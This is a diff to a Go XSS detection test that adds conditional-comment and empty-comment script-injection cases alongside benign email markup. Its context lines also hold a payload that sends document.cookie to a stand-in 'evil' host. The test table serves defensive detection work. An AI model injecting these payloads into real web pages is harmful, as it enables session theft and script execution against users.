@@ -141,6 +141,8 @@ func TestXSS(t *testing.T) {
 		{"conditional comment markup condition", "<!--[if<img src=x onerror=alert(2)//]> -->", true},
 		{"conditional comment empty condition", "<!--[if]><script>alert(1)</script -->", true},
 		{"conditional comment hiding an xml island", `<!--[if IE]><xml src="x.xml" id=I></xml><![endif]-->`, true},
+		{"not-outlook block with a handler", `<!--[if !mso]><!--><img src=x onerror=alert(1)><!--<![endif]-->`, true},
+		{"empty comment then a script", `<!--><script>alert(1)</script>`, true},
 		{"downlevel revealed with a handler", "<![if !IE]><img src=x onerror=alert(1)><![endif]>", true},
 		// JavaScript
 		{"dom location from a cookie", "document.location='//evil/?'+document.cookie", true},
@@ -237,6 +239,7 @@ func TestXSS(t *testing.T) {
 		{"meta ua compatible", `<meta http-equiv="X-UA-Compatible" content="IE=edge">`, false},
 		{"word conditional comment", `<p class="MsoNormal">Dear Sir/Madam,<o:p></o:p></p><!--[if gte mso 9]><xml><o:OfficeDocumentSettings><o:AllowPNG/></o:OfficeDocumentSettings></xml><![endif]-->`, false},
 		{"email conditional table", `<!--[if (gte mso 9)|(IE)]><table width="600" align="center"><tr><td><![endif]--><div style="max-width:600px">Hi</div><!--[if (gte mso 9)|(IE)]></td></tr></table><![endif]-->`, false},
+		{"email not-outlook block", `<!--[if !mso]><!--><div style="display:none;max-height:0">Preview text</div><!--<![endif]-->`, false},
 		{"downlevel revealed", `<![if !supportLists]><span style="mso-list:Ignore">1.</span><![endif]>`, false},
 		// rich-text embeds
 		{"quill video", `<iframe class="ql-video" frameborder="0" allowfullscreen="true" src="https://www.youtube.com/embed/dQw4w9WgXcQ?showinfo=0"></iframe><p>Watch from 1:20</p>`, false},
